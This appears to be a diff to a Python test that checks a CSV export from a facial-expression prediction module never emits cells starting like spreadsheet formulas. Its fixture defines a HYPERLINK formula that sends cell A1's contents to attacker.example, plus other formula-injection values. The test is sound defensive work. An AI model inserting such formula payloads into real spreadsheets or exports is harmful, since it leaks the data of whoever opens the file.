@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 
-from fermodels.predictions import write_rows
+from fermodels.predictions import csv_text
 
 EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"Happy")'
 
@@ -14,7 +14,7 @@ def test_no_csv_cell_starts_like_a_formula():
     classes = (EVIL, "Happy", "@SUM(1+1)")
     row = {"source": "=2+3.jpg", "frame": 0, "face": 0, "box": [-1.5, 2.0, 30.0, 40.0], "score": 0.99,
            "expression": EVIL, EVIL: 0.7, "Happy": 0.2, "@SUM(1+1)": 0.1}
-    text = write_rows([row], [], classes, None)
+    text = csv_text([row], classes, header=True)
     cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
     assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], text
     header, values = list(csv.reader(io.StringIO(text)))
